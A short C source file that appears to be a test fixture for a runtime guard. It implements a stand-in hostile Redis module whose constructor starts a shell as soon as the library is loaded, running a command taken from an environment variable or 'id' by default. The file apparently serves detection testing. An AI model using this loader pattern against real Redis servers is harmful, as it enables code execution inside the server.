/*
 * A hostile Redis module, the scenarios' stand-in for code injected into redis-server (the
 * MODULE LOAD route of several Redis compromises). Its constructor runs inside the server
 * process as soon as the library is loaded and starts a shell; it has no RedisModule_OnLoad,
 * so the server then refuses the module and carries on.
 *
 * The shell's command is taken from RTGUARD_SCEN_SHELL_CMD in the server's environment when
 * set, else it runs "id".
 */
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void start_shell(void) {
    const char* cmd = getenv("RTGUARD_SCEN_SHELL_CMD");
    pid_t pid = fork();
    if (pid == 0) {
        execl("/bin/sh", "sh", "-c", cmd ? cmd : "id >/dev/null", (char*)NULL);
        _exit(127);
    }
    if (pid > 0) waitpid(pid, NULL, 0);
}
